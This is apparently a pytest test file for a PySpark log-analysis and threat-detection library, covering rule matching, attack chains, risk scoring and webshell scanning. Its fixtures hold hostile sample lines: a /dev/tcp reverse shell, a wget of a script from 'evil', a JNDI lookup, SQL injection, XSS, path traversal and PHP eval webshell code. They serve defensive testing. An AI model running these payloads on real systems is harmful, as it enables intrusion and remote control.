import re

import pytest
from pyspark.sql import functions as F

from siftline.functions import levels
from siftline.operators import chains, events, filescan, match, report, timeline
from siftline.plans import rule_queries
from siftline.sources.rules import load_rules

CORPUS = [
    "Jan 05 10:00:00 server1 sshd[9]: Failed password for invalid user bob from 45.154.255.147 port 22 ssh2",
    "Jan 05 10:00:01 server1 sshd: Invalid user eve from 10.1.2.3 port 4",
    "Jan 05 10:00:02 server1 sshd: Accepted publickey for root from 45.154.255.147 port 5 ssh2",
    '1.2.3.4 - - [06/Feb/2026:10:00:00 +0800] "GET /x?q=${jndi:ldap://evil/a} HTTP/1.1" 200 12 "-" "curl"',
    '1.2.3.4 - - [06/Feb/2026:10:00:00 +0800] "GET /i?id=1\' or \'1\'=\'1 HTTP/1.1" 200 12 "-" "Mozilla/5.0 (X11; Linux)"',
    '1.2.3.4 - - [06/Feb/2026:10:00:00 +0800] "GET /i?id=1 UNION ALL SELECT 1 HTTP/1.1" 401 12',
    '1.2.3.4 - - [06/Feb/2026:10:00:00 +0800] "GET /<script>alert(document.cookie)</script> HTTP/1.1" 200 12',
    '1.2.3.4 - - [06/Feb/2026:10:00:00 +0800] "GET /../../etc/passwd HTTP/1.1" 403 12',
    "2024-01-01 10:00:00.000 Error EventID=4625 An account failed to log on",
    "2024-01-01 10:00:00.000 Information EventID=4688 A new process: powershell -enc SQBFAFgA",
    "2024-01-01 10:00:00.000 Information EventID=4999 nothing",
    "$x = eval(base64_decode($_POST['a'])); bash -i >& /dev/tcp/1.1.1.1/80",
    "wget http://evil/x.sh; chmod 777 0777 /tmp/x",
    "plain line about nothing",
    "GRÖSSE $größe = system",
    "wmic /node:x process call create calc; PsExec; mimikatz lsass; wevtutil clear-log",
    "rsync upload 10 MB; xmrig; nmap scan; .encrypted READ_ME",
    "disk full no space left on device; segfault at 0; service stopped",
]


def corpus(spark):
    return spark.createDataFrame(list(enumerate(CORPUS)), "seq bigint, raw string").withColumn("stream_id", F.lit("s"))


def python_hits(rules):
    return sorted((i, r.rule_id) for i, t in enumerate(CORPUS) for r in rules if re.search(r.patterns["raw"], t, re.I))


@pytest.mark.parametrize("pack", [match.pack_v3, match.pack_v2, match.pack_signatures])
def test_packs_hit_the_lines_that_plain_search_hits(spark, pack):
    rules = pack()
    got = sorted((r.seq, r.rule_id) for r in match.match_rules(corpus(spark), rules).collect())
    assert got == python_hits(rules) and got


@pytest.mark.parametrize("name", ["timeline", "unified"])
def test_first_match_takes_the_first_pattern(spark, name):
    pack = match.first_match_pack(name)
    got = {r.seq: r.matched_pattern for r in match.first_match(corpus(spark), pack).collect()}
    assert got == {i: next((p for _, _, p in pack if re.search(p, t, re.I)), None) for i, t in enumerate(CORPUS)}


def test_guards_are_necessary_conditions():
    rules = match.pack_v3() + match.pack_v2() + match.pack_fields()
    patterns = [p for r in rules for p in r.patterns.values()]
    patterns += [p for n in ("timeline", "unified") for _, _, p in match.first_match_pack(n)]
    guarded = 0
    for pattern in patterns:
        needed = match.required_texts(pattern)
        guarded += bool(needed)
        for text in CORPUS:
            if needed and re.search(pattern, text, re.I):
                assert any(n in text.lower() for n in needed), (pattern, text)
    assert guarded > len(patterns) * 0.8


def test_pack_sizes():
    assert [len(p()) for p in (match.pack_v3, match.pack_v2, match.pack_fields)] == [22, 76, 33]
    assert [len(match.first_match_pack(n)) for n in ("timeline", "unified")] == [54, 52]


def test_field_rules_search_request_then_message_then_line(spark):
    rule = match.Rule("r", "c", "HIGH", "", 0.9, {"url": "needle"}, "fields")
    df = spark.createDataFrame(
        [(1, '1.2.3.4 - - [x] "GET /needle HTTP/1.1" 200 1'), (2, '1.2.3.4 - - [x] "GET / HTTP/1.1" 200 1 "needle" "a"'), (3, "needle")],
        "seq bigint, raw string",
    )
    assert sorted(r.seq for r in match.match_rules(df, [rule]).collect()) == [1, 3]


def test_status_rules_and_duplicates(spark):
    status = match.Rule("s", "c", "LOW", "", 0.5, {"http_status": "4[0-9][0-9]"}, "fields")
    df = spark.createDataFrame([(1, "EventID=4625"), (2, '1.2.3.4 - - [x] "GET / HTTP/1.1" 404 1')], "seq bigint, raw string")
    assert sorted(r.seq for r in match.match_rules(df, [status]).collect()) == [1, 2]
    assert [r.seq for r in match.match_rules(df, [status], strict_fields=True).collect()] == [2]
    twice = [status, match.Rule("s", "other", "HIGH", "", 1.0, {"url": "GET"}, "fields")]
    assert sorted((r.seq, r.category) for r in match.match_rules(df, twice).collect()) == [(1, "c"), (2, "c")]
    assert match.match_rules(df, twice, disabled=["s"]).count() == 0


def test_incident_sources_come_from_groups(spark):
    rows = match.match_incident_rules(corpus(spark)).collect()
    by_rule = {(r.seq, r.rule_id): r.source_ip for r in rows}
    assert by_rule[0, "SSH_FAILED_LOGIN"] == "45.154.255.147"
    assert by_rule[8, "WINDOWS_LOGIN_FAILURE"] is None
    assert sorted(by_rule) == python_hits(match.pack_v2())


def test_reputation_raises_the_level(spark):
    rows = events.with_reputation(match.match_incident_rules(corpus(spark))).collect()
    levels_of = {(r.seq, r.rule_id): (r.threat_level, r.reputation) for r in rows}
    assert levels_of[0, "SSH_FAILED_LOGIN"] == ("CRITICAL", "malicious")
    assert levels_of[1, "INVALID_USER_ATTEMPT"] == ("MEDIUM", None)


def test_dynamic_rules(spark):
    table = spark.createDataFrame([("a", "evil", "x"), ("b", r"port\s+\d+", "y")], "rule_id string, pattern string, note string")
    got = match.match_dynamic(corpus(spark), table)
    assert {(r.rule_id, r.note) for r in got.collect()} == {("a", "x"), ("b", "y")}


def test_windows_events_override(spark):
    got = {r.event_id: (r.attack_type, r.threat_level) for r in timeline.timeline_events(corpus(spark), "windows").collect()}
    assert got == {4625: ("brute_force", "HIGH"), 4688: ("unknown", "INFO"), 4999: ("unknown", "INFO")}


def test_timeline_keeps_only_lines_of_the_layout(spark):
    rows = timeline.sorted_timeline(timeline.timeline_events(corpus(spark), "linux", 2024)).collect()
    dated = [r for r in rows if r.raw.startswith("Jan")]
    assert [r.seq for r in dated] == [0, 1, 2] and dated[0].target == "server1"
    assert dated[0].details["captured"] == "45.154.255.147" and dated[0].source_ip == "45.154.255.147"


def test_chains(spark):
    rows = [("1.1.1.1", "brute_force", 1), ("1.1.1.1", "lateral_movement", 2), ("1.1.1.1", "data_exfiltration", 3), ("2.2.2.2", "brute_force", 4),
            ("2.2.2.2", "xss", 5), (None, "brute_force", 6), ("3.3.3.3", "sql_injection", 8), ("3.3.3.3", "brute_force", 7)]
    df = spark.createDataFrame(rows, "source_ip string, category string, seq bigint")
    got = {r.source_ip: (r.chain_id, r.threat_level, r.n_stages, r.stages_in_order) for r in chains.attack_chains(df).collect()}
    assert got == {
        "1.1.1.1": ("CHAIN_1111", "CRITICAL", 3, ["initial_access", "lateral_movement", "exfiltration"]),
        "3.3.3.3": ("CHAIN_3333", "MEDIUM", 2, ["initial_access"]),
    }
    stages = chains.chain_stages(df, bucket=F.floor(F.col("seq") / 2))
    assert sorted((r.source_ip, r.stage_no, r.seq) for r in stages.collect()) == [
        ("1.1.1.1", 1, 1), ("1.1.1.1", 2, 2), ("1.1.1.1", 3, 3), ("3.3.3.3", 1, 7), ("3.3.3.3", 2, 8)
    ]


def test_risk_levels(spark):
    def rows(f, cases):
        names = [f"c{i}" for i in range(len(cases[0][0]))]
        df = spark.createDataFrame([c for c, _ in cases], ", ".join(f"{n} bigint" for n in names))
        return [r.x for r in df.select(f(*[F.col(n) for n in names]).alias("x")).collect()] == [w for _, w in cases]

    assert rows(levels.risk_events, [((1, 0, 1), "CRITICAL"), ((0, 11, 11), "HIGH"), ((0, 10, 10), "MEDIUM"), ((0, 0, 0), "SAFE")])
    assert rows(levels.risk_incidents, [((1, 0, 0), "CRITICAL"), ((0, 11, 0), "CRITICAL"), ((0, 1, 0), "HIGH"), ((0, 0, 21), "HIGH"), ((0, 0, 1), "MEDIUM"), ((0, 0, 0), "INFO")])
    assert rows(levels.risk_unified, [((1, 0), "VERY_HIGH"), ((0, 6), "HIGH"), ((0, 5), "MEDIUM"), ((0, 0), "LOW")])
    assert rows(levels.threat_score, [((0, 0, 0, 0), 0.0), ((1, 0, 0, 50), 3.0), ((100, 0, 0, 100), 10.0), ((1, 1, 1, 1000), 0.5)])


def test_recommendations_respect_thresholds(spark):
    counts = spark.createDataFrame([("brute_force", 5), ("webshell", 1)], "category string, n bigint")
    got = [r.category for r in report.recommendations(counts, *report.ADVICE["incidents"]).collect()]
    assert got == ["webshell"]
    none = report.recommendations(counts.filter("false"), *report.ADVICE["timeline"]).collect()
    assert [r.severity for r in none] == ["INFO"]


def test_private_ranges(spark):
    df = spark.createDataFrame([("10.1.1.1",), ("172.31.0.1",), ("172.32.0.1",), ("192.168.9.9",), ("127.0.0.1",), ("8.8.8.8",), ("x",)], "ip string")
    got = [r.r for r in df.select(events.in_ranges(F.col("ip")).alias("r")).collect()]
    assert got == ["10.0.0.0/8", "172.16.0.0/12", None, "192.168.0.0/16", "127.0.0.0/8", None, None]


def test_file_scanners(spark):
    df = spark.createDataFrame(
        [("/a/x.php", "<?php eval($_POST['a']); ?>"), ("/a/y.jsp", "Runtime.getRuntime().exec(a)"), ("/a/z.txt", "hello"),
         ("/a/t.asp", "AntSword"), ("/a/n.php", "base64_decode($x)")],
        "path string, content string",
    )
    first = {r.path: (r.pattern, r.confidence, r.threat_level) for r in filescan.scan_first_hit(df).collect()}
    assert first["/a/x.php"] == ("eval($_REQUEST", 0.9, "HIGH") and first["/a/n.php"][2] == "MEDIUM"
    rows = {r.path: r for r in filescan.scan_by_score(df).collect()}
    assert (rows["/a/y.jsp"].language, rows["/a/y.jsp"].confidence, rows["/a/y.jsp"].threat_level) == ("jsp", 0.95, "CRITICAL")
    assert rows["/a/t.asp"].matched == ["tool antsword"] and rows["/a/z.txt"].threat_level == "INFO"
    stats = filescan.scan_stats(filescan.scan_by_score(df)).first()
    assert (stats.total_files, stats.webshell_count, stats.critical) == (5, 4, 3)


def test_rule_files(tmp_path):
    (tmp_path / "b.yaml").write_text("---\nname: two\npattern:\n  url: x\n  http_status: null\n---\nname: three\npattern: {raw: y}\nseverity: low\nconfidence: 0.3\n")
    (tmp_path / "a.yaml").write_text("name: one\npattern: {url: z}\ncategory: xss\n")
    (tmp_path / "c.yaml").write_text("name: [broken\n")
    rules = load_rules(str(tmp_path))
    assert [(r.rule_id, r.level, r.confidence, r.patterns) for r in rules] == [
        ("one", "MEDIUM", 0.8, {"url": "z"}), ("two", "MEDIUM", 0.8, {"url": "x"}), ("three", "LOW", 0.3, {"raw": "y"})
    ]


def test_many_dynamic_rules_in_one_scan(spark):
    words = [f"w{i:04d}" for i in range(3000)]
    rules = spark.createDataFrame(
        [(f"r{i}", rf"{a}\s+{b}", i) for i, (a, b) in enumerate(zip(words, words[1:]))]
        + [("digits", r"\d{3}\.\d", -1), ("java", r"\p{Lu}{5}", -2), ("r7", "w0001", -3), ("none", None, -4)],
        "rule_id string, pattern string, raw int",
    )
    lines = spark.createDataFrame(
        [(1, "x W0007  w0008 w0009"), (2, "w0007 w0009"), (3, None), (4, ""), (5, "123.4 ABCDE w0001")], "seq int, raw string"
    )
    found = match.match_dynamic(lines, rules)
    assert sorted((r[0], r[1], r[3]) for r in found.collect()) == [
        ("digits", 5, -1), ("java", 5, -2), ("r7", 1, 7), ("r7", 5, -3), ("r8", 1, 8),
    ]
    by_blocks = match.match_dynamic(lines, rules, block_bytes=20_000)
    assert sorted(map(tuple, by_blocks.collect())) == sorted(map(tuple, found.collect()))


def test_rules_search_decoded_texts_too(spark):
    start = '10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET '
    paths = ["/v?f=../../etc/passwd", "/v?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/plain?a=100%&b=a+b", "/v?f=%25252525252e%2525252525252e"]
    lines = spark.createDataFrame([(i, f'{start}{p} HTTP/1.1" 200 1') for i, p in enumerate(paths)], "seq int, raw string")
    rules = match.pack_v3() + match.pack_fields()
    plain = {(r.seq, r.rule_id) for r in match.match_rules(lines, rules).collect()}
    decoded = {(r.seq, r.rule_id) for r in match.match_rules(lines, rules, decode_rounds=3).collect()}
    traversal = {rule for seq, rule in plain if seq == 0}
    assert plain <= decoded and traversal and {rule for seq, rule in decoded if seq == 1} >= traversal
    assert {x for x in plain if x[0] in (0, 2)} == {x for x in decoded if x[0] in (0, 2)}


def test_percent_decoding(spark):
    from siftline.functions.text import percent_decoded

    texts = ["a+b%2Fc%zz%25%252e%", "%E4%b8%ad", None, "", "100%", "%25252e"]
    rows = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "i int, t string")
    one, two = (
        [r[0] for r in rows.orderBy("i").select(percent_decoded(rows.t, n)).collect()] for n in (1, 2)
    )
    assert one == ["a+b/c%zz%%2e%", "中", None, "", "100%", "%252e"]
    assert two == ["a+b/c%zz%.%", "中", None, "", "100%", "%2e"]


def test_brute_force_window_counts_single_failures_per_host(spark, tmp_path):
    at = [(0, "2024-01-01 00:01:00", 3), (1, "2024-01-01 00:02:00", 3), (6, "2024-01-01 00:03:00", 13), (6, "2024-01-01 00:07:00", 4), (2, "2024-01-01 00:08:00", 4)]
    rows = spark.createDataFrame(at, "event_id bigint, t string, user_id bigint")
    rows.selectExpr("event_id", "to_timestamp_ntz(t) AS ts", "user_id", "'view' AS event_type", "1.0D AS value").write.parquet(f"{tmp_path}/events.parquet")
    found = rule_queries.brute_force_window(spark, str(tmp_path)).collect()
    assert sorted((r.window_start, r.target, r.failures) for r in found) == [("2024-01-01 00:00:00", "srv3", 3), ("2024-01-01 00:05:00", "srv4", 1)]


def test_one_search_flags_the_patterns_whose_texts_a_line_holds(spark):
    patterns = [f"word{i:03d}\\s+x" for i in range(130)] + [r"[;|$]", r"\d+", r"(?:alpha|Beta)\d"]
    rows = [(1, "WORD007 x and word129  x;"), (2, "a|b"), (3, "BETA1"), (4, ""), (5, None), (6, "word061 x word062 x word063 x")]
    seen = match.seen_patterns(spark.createDataFrame(rows, "seq int, raw string"), F.col("raw"), "seen", patterns)
    flags = {r.seq: {i for i in range(len(patterns)) if r.seen[i // match.FLAGS] >> i % match.FLAGS & 1} for r in seen.collect()}
    assert flags == {1: {7, 129, 130}, 2: {130}, 3: {132}, 4: set(), 5: set(), 6: {61, 62, 63}}
    hit = [match.seen_hits(F.col("raw"), F.col("seen"), p, i) for i, p in enumerate(patterns)]
    found = seen.select("seq", F.array_compact(F.array(*[F.when(h, F.lit(i)) for i, h in enumerate(hit)])).alias("found"))
    assert {r.seq: set(r.found) for r in found.collect()} == {1: {7, 129, 130, 131}, 2: {130}, 3: {131, 132}, 4: set(), 5: set(), 6: {61, 62, 63, 131}}


def test_packs_search_their_texts_at_once(spark, lines):
    plan = match.match_incident_rules(lines("x"))._jdf.queryExecution().executedPlan().toString()
    assert "ArrowEvalPython" in plan and "Contains(" not in plan


def test_dynamic_rules_lead_only_to_lines_that_hold_all_neighbouring_words(spark):
    patterns = [
        r"the\s+cat", r"cat[,.]\s+dog", r"the\s+[a-z]+\s+of", r"x[0-9]+\s*y", r"run [a-z]+(now|later)", r"k\w+\s+sea", r"is\w*\s+it",
        r"[a-z&&[^b]]ook\s+at", r"foo\vbar", r"\bend\s+\s*of\b", r"of.the", r"(?x) no w # ere", r"a\s+[^b]+\s+c", r"[a-c]+[b-d]+ z", r"^\s+up",
    ]
    texts = [
        "The  cat\nsat", "thecat the dog cat", "cat.\tdog", "cat dog", "THE end\u00a0of", "the \t long\nof", "the 1 of", "the one two of", "x12 y", "x y",
        "run fastnow", "run laterlater", "run now", "Kold sea", "kx ſea", "Iſ it", "İs  it", "look at", "book  at", "foo\n\x0bbar", "foo\nbar",
        "foobar", "end   of", "endof", "of\tthe", "of the", "now", "a x c", "a b c", "abcd z", "bb z", "  up", "x up", "", None,
    ]
    rules = spark.createDataFrame([(f"r{i}", p) for i, p in enumerate(patterns)], "rule_id string, pattern string")
    lines = spark.createDataFrame(list(enumerate(texts)), "seq int, raw string")
    want = set()
    for i, pattern in enumerate(patterns):
        want |= {(f"r{i}", r.seq) for r in lines.filter(F.col("raw").rlike(match.ignoring_case(pattern))).collect()}
    assert {(r.rule_id, r.seq) for r in match.match_dynamic(lines, rules).collect()} == want
    assert {i for _, i in want} >= {0, 2, 5, 8, 10, 13, 15, 16, 20, 22, 24}

    index = {part: [i] for i, p in enumerate(patterns[:3]) for part in match.needed_parts(p)}
    found = lines.select("seq", F.explode(match._candidates(spark.sparkContext.broadcast(index))(F.lower("raw"))).alias("rule")).collect()
    hits = {x for x in want if x[0] in ("r0", "r1", "r2")}
    assert {(f"r{r.rule}", r.seq) for r in found} == hits | {("r2", 4)}  # a blank beyond ASCII is no hit of this pattern


def test_patterns_that_the_search_decides_are_not_tested(spark):
    patterns = [
        r"the\s+cat", r"cat[,.]\s+dog", r"the\s+[a-z]+\s+of", r"ab[0-9]+cd", r"[Kk]ey\.[x_]", r"\s+is", r"it\s+", r"sea[A-Z]+!", r"[aA][bB]-1", r"to[Z_a]+\s+be",
    ]
    others = [r"the\s+\s+cat", r"ab[a-z]+cd", r"\\w+\s+is", r"ab[0-9]{1,}cd", r"a\1b", r"it\vis", r"x[a&&b]y", r"[^a]bc", "caf\u00e9", r"to +be", "(?x)a b", r"it\s+?is", "ab?"]
    texts = [
        "The \t\r\n\x0b\x0ccat", "the\x1ccat", "the\u00a0cat", "the\u2028cat", "thecat", "The cat \u00f1", "the \u00a0 cat", "CAT,\ndog", "cat. Dog", "cat;dog", "cat.dog",
        "the one of", "the  ONE\tOF", "the on1 of", "the  of", "the one two of", "the \u017fea of", "the oNe\u0130 of", "breathe a often the b of \u00f1", "ab12cd", "abcd", "AB1CD", "ab1 cd",
        "\u212aey.x", "KEY._ \u00f1", "keyax", " \u0130s", " is", "\u0085is", "\x1eis", "it", "it ", "it\x0c", "it\u3000", "seab!", "sea!", "SEA\u017f!", "sea\u212a!", "sea1!", "Ab-1", "\u00e4ab-1",
        "toZ be", "to_A\nbe", "tob be", "abab9cd", "\\w+ is", "", None,
    ]
    assert all(match.whole_parts(p) for p in patterns) and not any(match.whole_parts(p) for p in others)
    rules = spark.createDataFrame([(f"r{i}", p) for i, p in enumerate(patterns)], "rule_id string, pattern string")
    lines = spark.createDataFrame(list(enumerate(texts)), "seq int, raw string")
    want = set()
    for i, pattern in enumerate(patterns):
        hits = {(f"r{i}", r.seq) for r in lines.filter(F.col("raw").rlike(match.ignoring_case(pattern))).collect()}
        assert hits
        want |= hits
    found = match.match_dynamic(lines, rules)
    assert "rlike" not in found._jdf.queryExecution().optimizedPlan().toString().lower()
    rows = [(r.rule_id, r.seq) for r in found.collect()]
    assert set(rows) == want and len(rows) == len(want)
    tested = spark.createDataFrame([("t0", r"the\s+(cat|dog)"), ("t1", "the .* of")], "rule_id string, pattern string")
    both = match.match_dynamic(lines, rules.unionByName(tested)).collect()
    more = {(f"t{i}", r.seq) for i, p in enumerate((r"the\s+(cat|dog)", "the .* of")) for r in lines.filter(F.col("raw").rlike(match.ignoring_case(p))).collect()}
    assert {(r.rule_id, r.seq) for r in both} == want | more and len(both) == len(want | more)
